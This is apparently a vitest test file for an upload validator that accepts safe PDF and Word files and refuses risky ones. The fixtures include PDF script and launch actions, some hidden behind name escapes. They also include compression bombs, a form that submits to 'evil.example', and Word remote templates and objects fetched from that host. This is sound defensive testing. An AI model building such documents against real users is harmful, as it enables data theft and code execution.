import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { exampleDocx, exampleZip, wordEntries, type ZipEntry } from '#server/testing/example-files.ts';
import { fileKindOf } from './file-kind.ts';

/** A PDF of these objects. */
function pdfOf(...objects: readonly (string | Buffer)[]): Buffer {
  const parts = objects.flatMap((object, index) => [`${index + 1} 0 obj\n`, object, '\nendobj\n']);
  const file = ['%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', ...parts, 'trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n'];
  return Buffer.concat(file.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
}

const catalog = '<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]/Names<</Dests 9 0 R>>>>';
const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([Buffer.from(`<<${dictionary}/Length ${data.length}>>stream\r\n`), data, Buffer.from('\nendstream')]);

/** Objects packed into a stream, as every program since 2003 writes them. */
function packed(objects: string, dictionary = '/Type/ObjStm/N 2/First 10/Filter/FlateDecode'): Buffer {
  return stream(dictionary, deflateSync(Buffer.from(`5 0 6 40  ${objects}`)));
}

const relations = (...elements: readonly string[]): ZipEntry => ({
  name: 'word/_rels/document.xml.rels',
  bytes: Buffer.from(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="x">${elements.join('')}</Relationships>`,
  ),
});
const kind = (name: string) => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
const relation = (name: string, target: string, more = ' TargetMode="External"') =>
  `<Relationship Id="rId1" Type="${kind(name)}" Target="${target}"${more}/>`;

describe('a PDF', () => {
  it.each([
    ['a page', pdfOf(catalog, '<</Type/Pages/Kids[]/Count 0>>')],
    [
      'links whose addresses hold such words',
      pdfOf(catalog, '<</A<</S/URI/URI(https://example.org/JavaScript/JS /Launch \\(/EmbeddedFile\\))>>>>'),
    ],
    ['space between its parts', Buffer.concat([pdfOf(catalog), Buffer.alloc(4_000_000, ' '), pdfOf(catalog)])],
    ['words on its page', pdfOf(catalog, stream('', Buffer.from('BT (/JavaScript) Tj /JS gs ET')))],
    ['a comment', pdfOf(catalog, '<</A 1>> % /JavaScript\n')],
    ['a name that begins like one', pdfOf(catalog, '<</JavaScriptless 1/JSON 2/LaunchDate 3/EFF 4>>')],
    ['packed objects', pdfOf(catalog, packed('<</Type/Page/A<</S/URI/URI(https://example.org/JS/)>>>> <</N 1>>'))],
    ['hundreds of packed objects', pdfOf(catalog, ...Array<Buffer>(500).fill(packed('<</N 1>>')))],
    ['packed pictures', pdfOf(catalog, stream('/Filter/DCTDecode', Buffer.from('\xff\xd8 /JS (x) /XFA ', 'latin1')))],
    ['a form to be filled in', pdfOf('<</Type/Catalog/AcroForm<</Fields[3 0 R]/DA(/Helv 0 Tf)>>>>')],
  ])('with %s is taken', async (_, bytes) => {
    expect(await fileKindOf(bytes, ['pdf'])).toBe('pdf');
  });

  it.each([
    ['a script', pdfOf(catalog, '<</S/JavaScript/JS(app.alert(1))>>')],
    ['a script by an escaped name', pdfOf(catalog, '<</S/J#61vaScript/J#53(app.alert(1))>>')],
    ['a script in escapes alone', pdfOf(catalog, '<</S/#4a#61#76#61#53#63#72#69#70#74>>')],
    ['a script of a film', pdfOf(catalog, '<</S/Rendition/JS 4 0 R>>')],
    ['a program', pdfOf(catalog, '<</S/L#61unch/F(cmd.exe)>>')],
    ['a file within', pdfOf(catalog, stream('/Type/EmbeddedFile', Buffer.from('MZ')))],
    ['a file within without its type', pdfOf(catalog, '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>')],
    ['a list of files within', pdfOf('<</Type/Catalog/Names<</EmbeddedFiles 4 0 R>>>>')],
    ['rich media', pdfOf(catalog, '<</Subtype/RichMedia>>')],
    ['an XFA form', pdfOf('<</Type/Catalog/AcroForm<</XFA 4 0 R>>>>')],
    ['a form that sends itself', pdfOf('<</Type/Catalog/OpenAction<</S/SubmitForm/F(https://evil.example)>>>>')],
    ['a form that fills itself', pdfOf(catalog, '<</S/ImportData/F(\\\\\\\\evil.example\\\\x)>>')],
    ['a way to a file elsewhere', pdfOf(catalog, '<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>')],
    ['a script behind a string with brackets', pdfOf(catalog, '<</A(\\)(()\\())/S/JavaScript>>')],
    ['a script behind a comment', pdfOf(catalog, '<<%>>endobj\n/S/JavaScript>>')],
    ['a script behind a word that ends nothing', pdfOf(catalog, '<</A endobj/S/JavaScript>>')],
    ['a script within a stream', pdfOf(catalog, stream('', Buffer.from('7 0 obj<</S/JavaScript>>endobj')))],
    ['a script within a string', pdfOf(catalog, '(7 0 obj<</S/JavaScript>>endobj)')],
    ['a script in its trailer', Buffer.concat([pdfOf(catalog), Buffer.from('trailer<</Root<</JS 1>>>>\n%%EOF')])],
    ['a packed script', pdfOf(catalog, packed('<</S/JavaScript/JS(app.alert(1))>> <</N 1>>'))],
    ['a packed script by an escaped name', pdfOf(catalog, packed('<</S/JavaS#63ript>>'))],
    [
      'a packed script without its type',
      pdfOf(catalog, packed('<</S/JavaScript>>', '/N 1/First 10/Filter[/FlateDecode]')),
    ],
    [
      'a script in a plain list of objects',
      pdfOf(catalog, stream('/Type/ObjStm/N 1/First 4', Buffer.from('5 0 <</JS 1>>'))),
    ],
    ['objects that are packed twice', pdfOf(catalog, packed('', '/Type/ObjStm/Filter[/FlateDecode/FlateDecode]'))],
    ['objects packed in another way', pdfOf(catalog, packed('', '/Type/ObjStm/Filter/LZWDecode'))],
    ['objects whose encoding is given by reference', pdfOf(catalog, packed('', '/Type/ObjStm/Filter 9 0 R'))],
    [
      'objects that are packed by difference',
      pdfOf(catalog, packed('', '/Type/ObjStm/Filter/Fl/DecodeParms<</Predictor 12>>')),
    ],
    [
      'packed objects that cannot be unpacked',
      pdfOf(catalog, stream('/Type/ObjStm/Filter/FlateDecode', Buffer.from('x'))),
    ],
    ['a bomb', pdfOf(catalog, packed(' '.repeat(20_000_000)))],
    ['many small bombs', pdfOf(catalog, ...Array.from({ length: 12 }, () => packed(' '.repeat(3_000_000))))],
    ['more packed objects than any program writes', pdfOf(catalog, ...Array<Buffer>(2_001).fill(packed('<</N 1>>')))],
    ['a script behind much space', pdfOf(catalog, `<</A 1${' '.repeat(3_000_000)}/S/JavaScript>>`)],
    ['a script behind much space at its beginning', pdfOf(catalog, `${' '.repeat(3_000_000)}<</S/JavaScript>>`)],
    ['objects that hold each other', pdfOf(`${'1 0 obj<</A('.repeat(20_000)}`)],
  ])('with %s is refused', async (_, bytes) => {
    expect(await fileKindOf(bytes, ['pdf'])).toBeUndefined();
  });
});

describe('a Word document', () => {
  it.each([
    ['links to web pages', exampleDocx([relations(relation('hyperlink', 'https://example.org/a?b=1&amp;c=2'))])],
    ['a link to write to', exampleDocx([relations(relation('hyperlink', 'mailto:office@mail.example'))])],
    [
      'its own parts',
      exampleDocx([
        relations(
          relation('styles', 'styles.xml', ''),
          relation('image', 'media/image1.png', ' TargetMode="Internal"'),
        ),
        { name: 'word/styles.xml', bytes: Buffer.from('<w:styles/>'.repeat(200)) },
        { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', bytes: Buffer.from('numbers of a chart') },
      ]),
    ],
  ])('with %s is taken', async (_, bytes) => {
    expect(await fileKindOf(bytes, ['docx'])).toBe('docx');
  });

  const external = relation('attachedTemplate', 'https://evil.example/macros.dotm');
  it.each([
    ['a template from elsewhere', [relations(external)]],
    ['a template of another computer', [relations(relation('attachedTemplate', '\\\\evil.example\\x.dotm', ''))]],
    ['an object from elsewhere', [relations(relation('oleObject', 'mhtml:https://evil.example/x.html'))]],
    ['a frame from elsewhere', [relations(relation('frame', 'https://evil.example/'))]],
    ['a picture from elsewhere', [relations(relation('image', 'file://evil.example/pixel.png'))]],
    ['a template in single quotes', [relations(external.replaceAll('"', "'"))]],
    ['a template with a prefix', [relations(external.replace('Relationship', 'r:Relationship'))]],
    ['a template in entities', [relations(external.replace('External', '&#69;xtern&#x61;l'))]],
    ['a template behind a bracket', [relations(external.replace('Id=', 'a=">" Id='))]],
    ['a template on two lines', [relations(external.replace(' Type', '\n\tType').replace('=', ' =\n'))]],
    [
      'relations in UTF-16',
      [
        {
          name: 'word/_rels/settings.xml.rels',
          bytes: Buffer.from(`\ufeff<Relationships>${external}</Relationships>`, 'utf16le'),
        },
      ],
    ],
    [
      'relations in another writing',
      [relations('<?xml version="1.0" encoding="UTF-7"?>')].map(({ name }) => ({
        name,
        bytes: Buffer.from('<?xml version="1.0" encoding="UTF-7"?><a/>'),
      })),
    ],
    [
      'relations with entities of their own',
      [relations()].map(({ name }) => ({ name, bytes: Buffer.from('<!DOCTYPE a [<!ENTITY b "External">]><a/>') })),
    ],
    ['relations with a name in capitals', [{ ...relations(external), name: 'word/_rels/settings.xml.RELS' }]],
    ['an object within', [{ name: 'word/embeddings/oleObject1.bin' }]],
    ['an object under another name', [relations(relation('oleObject', 'media/image1.png', ''))]],
    ['a control', [{ name: 'word/activeX/activeX1.xml' }]],
    [
      'macros under another name',
      [
        relations(
          `<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.dat"/>`,
        ),
      ],
    ],
    ['a document with macros within', [{ name: 'word/embeddings/a.docm' }]],
    ['a page that runs', [{ name: 'word/a.hta' }]],
    [
      'a part that unpacks to more than it says',
      [{ name: 'word/a.xml', bytes: Buffer.alloc(50_000), claims: { unpackedBytes: 500 } }],
    ],
    [
      'a part that unpacks to less than it says',
      [{ name: 'word/a.xml', bytes: Buffer.alloc(500), claims: { unpackedBytes: 600 } }],
    ],
    ['a second list of types', [{ name: '[CONTENT_TYPES].XML' }]],
  ] satisfies [string, ZipEntry[]][])('with %s is refused', async (_, more) => {
    expect(await fileKindOf(exampleDocx(more), ['docx'])).toBeUndefined();
  });

  it('that says it has macros somewhere is refused', async () => {
    const [types, text] = wordEntries();
    const withMacros = String(types?.bytes).replace(
      '</Types>',
      '<Override PartName="/a" ContentType="application/vnd.ms-office.vb&#97;Project"/></Types>',
    );
    const entries = [{ name: types?.name ?? '', bytes: Buffer.from(withMacros) }, { name: text?.name ?? '' }];
    expect(await fileKindOf(exampleZip(entries), ['docx'])).toBeUndefined();
  });
});
